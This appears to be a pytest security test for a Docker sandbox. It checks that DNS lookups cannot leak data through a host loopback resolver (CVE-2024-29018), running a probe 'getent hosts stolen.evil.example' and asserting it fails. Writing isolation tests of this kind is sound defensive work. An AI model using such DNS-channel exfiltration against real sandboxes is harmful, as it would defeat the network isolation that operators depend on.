"""Row 16: data carried out in questions of names, where the machine's resolver listens on its loopback.

An engine asks such a resolver from the machine's own network, on behalf of containers in internal networks too
(CVE-2024-29018).
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from prodigy.egress_rule import EgressRule
from prodigy.sandbox.builtin import BASE, EGRESS
from prodigy.sandbox.docker.backend import DockerBackend
from prodigy.sandbox.egress import Egress
from prodigy.sandbox.images import Images
from prodigy.sandbox.protocol import Call, SandboxSpec
from prodigy.values import MountSpec
from tests.support.name_server import name_server
from tests.support.own_engine import own_engine

pytestmark = [pytest.mark.docker, pytest.mark.root]
MENDED = (26,)
"""The first version of the engine that does not ask for internal networks."""


def test_no_question_reaches_a_resolver_on_the_loopback(tmp_path: Path) -> None:
    work, asked = tmp_path / "work", tmp_path / "asked"
    work.mkdir(mode=0o777)
    with own_engine(resolver="127.0.0.1") as own:
        own.start()
        for image in (BASE, EGRESS):
            own.load(image.reference)
        engine = own.connect()
        backend = DockerBackend(engine, Images(engine, tmp_path / "cache"))
        spec = SandboxSpec(
            name="prodigy-test-dns",
            mount=MountSpec("bind", work),
            labels={"prodigy.home": str(tmp_path)},
            image=BASE.reference,
            egress=Egress((EgressRule.parse("pypi.org"),)),
        )
        with name_server(own.pid, asked):
            box = backend.open(spec)
            try:
                (network,) = engine.api.networks(filters={"label": f"prodigy.home={tmp_path}"})
                docker = ["docker", "--host", own.address, "run", "--rm", "--network", network["Name"]]
                found = box.run(Call(("getent", "hosts", "stolen.evil.example")))
                assert found.exit_code == 2
                control = ["getent", "hosts", "control.evil.example"]
                subprocess.run([*docker, BASE.reference, *control], capture_output=True, check=False)
            finally:
                box.close()
                backend.close()
        questions = asked.read_text().split()
        version = tuple(int(part) for part in engine.facts.version.split(".")[:1])
        engine.close()
    assert "stolen.evil.example" not in questions
    assert version >= MENDED or "control.evil.example" in questions, "the resolver was not there to be asked"
